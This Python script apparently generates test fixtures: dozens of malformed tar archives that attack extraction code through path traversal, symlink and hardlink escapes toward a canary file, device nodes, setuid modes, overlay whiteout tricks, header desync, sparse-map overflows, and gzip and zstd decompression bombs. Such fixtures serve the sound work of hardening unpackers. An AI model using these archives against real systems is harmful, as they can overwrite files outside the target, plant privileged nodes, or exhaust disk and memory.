#!/usr/bin/env python3
"""Writes archives that attack whoever unpacks them, one file each, into a directory.

usage: hostile_tars.py DIRECTORY CANARY

CANARY is a directory outside of the layer that holds the file `secret`; the archives try to change it. Headers are made by
hand where a library would refuse to.
"""
import gzip
import io
import struct
import subprocess
import sys
import zlib

out, canary = sys.argv[1:]


def octal(n, size):
    return b"%0*o\0" % (size - 1, n)


def header(name, size=0, typ=b"0", link=b"", mode=0o644, uid=0, gid=0, mtime=1000000000, major=0, minor=0, magic=b"ustar\x0000",
           prefix=b""):
    h = bytearray(512)
    h[0:100] = name[:100].ljust(100, b"\0")
    h[100:108] = octal(mode, 8)
    h[108:116] = octal(uid, 8)
    h[116:124] = octal(gid, 8)
    h[124:136] = octal(size, 12) if isinstance(size, int) else size
    h[136:148] = octal(mtime, 12)
    h[148:156] = b" " * 8
    h[156:157] = typ
    h[157:257] = link[:100].ljust(100, b"\0")
    h[257:265] = magic
    h[329:337] = octal(major, 8)
    h[337:345] = octal(minor, 8)
    h[345:500] = prefix.ljust(155, b"\0")
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def pad(data):
    return data + b"\0" * (-len(data) % 512)


def entry(name, data=b"", **kw):
    kw.setdefault("size", len(data))
    return header(name, **kw) + pad(data)


def pax(records, typ=b"x", name=b"././@PaxHeader"):
    body = b""
    for key, value in records:
        rest = b" " + key + b"=" + value + b"\n"
        total = len(rest)
        while total != len(str(total)) + len(rest):
            total = len(str(total)) + len(rest)
        body += str(total).encode() + rest
    return entry(name, body, typ=typ)


def long(typ, text):
    return entry(b"././@LongLink", text + b"\0", typ=typ, magic=b"ustar  \0")


END = b"\0" * 1024
# user::rwx user:1234:r-x group::r-x mask::rwx other::---
ACL = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *e) for e in (
    (1, 7, 0xffffffff), (2, 5, 1234), (4, 5, 0xffffffff), (16, 7, 0xffffffff), (32, 0, 0xffffffff)))
d = lambda n, **kw: entry(n, typ=b"5", mode=kw.pop("mode", 0o755), **kw)
sym = lambda n, to, **kw: entry(n, typ=b"2", link=to, **kw)
hard = lambda n, to, **kw: entry(n, typ=b"1", link=to, **kw)
c = canary.encode()
up = b"../" * 20 + c.lstrip(b"/")

tars = {
    # the nine
    "dotdot": long(b"L", up + b"/secret") + entry(b"dotdot", b"overwritten"),
    "absolute": long(b"L", c + b"/secret") + entry(b"a", b"overwritten"),
    "symlink-parent": sym(b"a", c) + entry(b"a/secret", b"overwritten"),
    "relative-symlink": sym(b"b", up) + entry(b"b/secret", b"overwritten"),
    "hardlink-out": hard(b"h", up + b"/secret") + entry(b"h", b"overwritten"),
    "hardlink-absolute": hard(b"h", c + b"/secret"),
    "hardlink-via-symlink": sym(b"s", c) + hard(b"h", b"s/secret"),
    "root-as-symlink": sym(b".", c) + entry(b"secret", b"overwritten"),
    "root-as-symlink-slash": sym(b"/", c) + entry(b"secret", b"overwritten"),
    "root-as-file": entry(b"./", b"x"),
    "device-char": entry(b"dev/mem", typ=b"3", major=1, minor=1, mode=0o666),
    "device-block": entry(b"sda", typ=b"4", major=8, minor=0, mode=0o666),
    "device-whiteout": entry(b"hidden", typ=b"3"),
    "device-over-file": entry(b"f", b"x") + entry(b"f", typ=b"3", major=1, minor=1),
    "device-many": b"".join(entry(b"d%d" % i, typ=b"3", major=1, minor=3) for i in range(4097)),
    "file-over-symlink": sym(b"f", c + b"/secret") + entry(b"f", b"overwritten"),
    "dir-over-symlink": sym(b"f", c) + d(b"f", mode=0o777, uid=1234) + entry(b"f/secret", b"overwritten"),
    # further ones
    "chmod-through-hardlink": sym(b"l", c + b"/secret") + hard(b"m", b"l") + entry(b"m", typ=b"0", mode=0o4777, uid=7),
    "symlink-attributes": sym(b"l", c + b"/secret", mode=0o4777, uid=4242, mtime=1),
    "hardlink-to-dir": d(b"d") + hard(b"h", b"d"),
    "hardlink-missing": hard(b"h", b"not/there"),
    "hardlink-to-self": entry(b"f", b"x") + hard(b"f", b"./f"),
    "symlink-loop": sym(b"a", b"b") + sym(b"b", b"a") + entry(b"a/x", b"x"),
    "symlink-dangling-parent": sym(b"a", b"/made/here") + entry(b"a/x", b"inside"),
    "symlink-proc": sym(b"a", b"/proc/self/root") + entry(b"a/x", b"x"),
    "symlink-grows": b"".join(sym(b"l%d" % i, b"l%d/" % (i + 1) * 12) for i in range(12)) + entry(b"l0/x", b"x"),
    "file-as-parent": entry(b"f", b"x") + entry(b"f/x", b"x"),
    "dir-replaced-by-link": d(b"d") + entry(b"d/x", b"x") + sym(b"d", c) + entry(b"d/secret", b"overwritten"),
    "whiteout-dotdot": entry(b"d/.wh...", b""),
    "whiteout-dot": entry(b".wh..", b""),
    "whiteout-bare": entry(b"d/.wh.", b""),
    "whiteout-directory": entry(b".wh.d/x", b"x"),
    "whiteout-through-link": sym(b"a", c) + entry(b"a/.wh.secret", b""),
    "opaque-through-link": sym(b"a", c) + entry(b"a/.wh..wh..opq", b""),
    "overlay-xattrs": pax([(b"SCHILY.xattr.trusted.overlay.redirect", b"/etc"), (b"SCHILY.xattr.trusted.overlay.opaque", b"y"),
                           (b"SCHILY.xattr.user.overlay.whiteout", b""), (b"SCHILY.xattr.security.selinux", b"x"),
                           (b"SCHILY.xattr.trusted.mine", b"x"), (b"SCHILY.xattr.user.kept", b"yes")]) + d(b"d"),
    "default-acl": pax([(b"SCHILY.xattr.system.posix_acl_default", ACL)]) + d(b"d") + entry(b"d/f", b"x", mode=0o640),
    "pax-size-desync": pax([(b"size", b"1024")]) + entry(b"a", b"", size=0)
        + pad(entry(b"smuggled-1", b"") + entry(b"smuggled-2", b"")) + entry(b"after", b"x"),
    "dir-with-size": header(b"d/", size=1024, typ=b"5", mode=0o755) + entry(b"after-1", b"") + entry(b"after-2", b""),
    "negative-size": header(b"n", size=b"\xff" * 12),
    "huge-size": header(b"n", size=b"\x80\0\0\0\x7f" + b"\xff" * 7),
    "huge-uid": pax([(b"uid", b"4294967295")]) + entry(b"u", b""),
    "pax-path-nul": pax([(b"path", b"a\0b")]) + entry(b"x", b""),
    "pax-malformed": entry(b"p", b"9999 path=x\n", typ=b"x") + entry(b"x", b""),
    "path-too-long": long(b"L", b"/".join([b"p" * 99] * 50)) + entry(b"x", b""),
    "pax-path-too-long": pax([(b"path", b"q/" * 2500)]) + entry(b"x", b""),
    "name-too-long": pax([(b"path", b"n" * 300)]) + entry(b"x", b""),
    "longname-huge": entry(b"huge-longname", b"x" * (2 << 20), typ=b"L", magic=b"ustar  \0") + entry(b"x", b""),
    "xattr-bomb": pax([(b"SCHILY.xattr.user.a%d" % i, b"v" * 4000) for i in range(40)]) + entry(b"xattrs", b""),
    "xattr-bomb-huge": pax([(b"SCHILY.xattr.user.a%d" % i, b"v" * 60000) for i in range(40)]) + entry(b"xattrs-huge", b""),
    "unknown-type": entry(b"odd", b"", typ=b"Z"),
    "wrong-checksum": entry(b"fine", b"x") + b"A" + entry(b"broken", b"x")[1:],
    "lone-zero-block": entry(b"a", b"x") + b"\0" * 512 + entry(b"b", b"x"),
    "truncated": entry(b"whole", b"x") + header(b"cut", size=100000) + b"y" * 5000,
    "sparse-overlap": pax([(b"GNU.sparse.major", b"0"), (b"GNU.sparse.minor", b"1"), (b"GNU.sparse.size", b"4096"),
                           (b"GNU.sparse.map", b"0,512,0,512")]) + entry(b"overlap", b"z" * 1024),
    "sparse-beyond": pax([(b"GNU.sparse.size", b"100"), (b"GNU.sparse.map", b"9223372036854775000,1024")])
        + entry(b"beyond", b"z" * 1024),
    "sparse-huge": pax([(b"GNU.sparse.size", b"9000000000000000000"), (b"GNU.sparse.map", b"0,512")])
        + entry(b"sparse-huge", b"z" * 512),
    "escape-codes": sym(b"bad\x1b[2J\n'name", b"x") + entry(b"bad\x1b[2J\n'name/x", b"x", typ=b"3"),
}

for name, data in tars.items():
    with open(f"{out}/{name}.tar", "wb") as f:
        f.write(data + (b"" if name == "truncated" else END))

good = entry(b"one", b"1" * 3000) + entry(b"two", b"2" * 3000) + END
gz = gzip.compress(good, mtime=0)
zst = subprocess.run(["zstd", "-qc", "--check"], input=good, stdout=subprocess.PIPE, check=True).stdout


def flip(b, at):
    b = bytearray(b)
    b[at] ^= 0x40
    return bytes(b)


raw = {
    "gzip-truncated.tar.gz": gz[:-20],
    "gzip-no-trailer.tar.gz": gz[:-8],
    "gzip-corrupt.tar.gz": flip(gz, len(gz) // 2),
    "gzip-wrong-crc.tar.gz": flip(gz, -6),
    "gzip-garbage.tar.gz": gz + b"trailing garbage",
    "zstd-truncated.tar.zst": zst[:-20],
    "zstd-corrupt.tar.zst": flip(zst, len(zst) // 2),
    "zstd-wrong-sum.tar.zst": flip(zst, -2),
    "zstd-garbage.tar.zst": zst + b"trailing garbage",
    "not-an-archive.tar": b"<html>" * 1000,
}
for name, data in raw.items():
    with open(f"{out}/{name}", "wb") as f:
        f.write(data)

# Bombs are small here and large when inflated. 10 GB of zeros in one file:
with open(f"{out}/bomb.tar.gz", "wb") as f:
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    size = 10 << 30
    f.write(z.compress(header(b"bomb", size=size if size < 8 << 30 else b"\x80\0\0\0" + size.to_bytes(8, "big"))))
    f.write(z.flush(zlib.Z_FULL_FLUSH))
    chunk = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = chunk.compress(b"\0" * (64 << 20)) + chunk.flush(zlib.Z_FULL_FLUSH)
    for _ in range(size // (64 << 20)):
        f.write(body)

# Two million empty files.
with open(f"{out}/million.tar.zst", "wb") as f:
    z = subprocess.Popen(["zstd", "-q1", "-c"], stdin=subprocess.PIPE, stdout=f)
    base = bytearray(header(b"n0000000"))
    total = sum(base[:148]) + 8 * 32 + sum(base[156:])
    for block in range(200):
        data = io.BytesIO()
        for i in range(block * 10000, block * 10000 + 10000):
            digits = b"%07d" % i
            base[1:8] = digits
            base[148:156] = b"%06o\0 " % (total - 7 * 48 + sum(digits))
            data.write(base)
        z.stdin.write(data.getvalue())
    z.stdin.write(END)
    z.stdin.close()
    if z.wait():
        sys.exit("zstd failed")
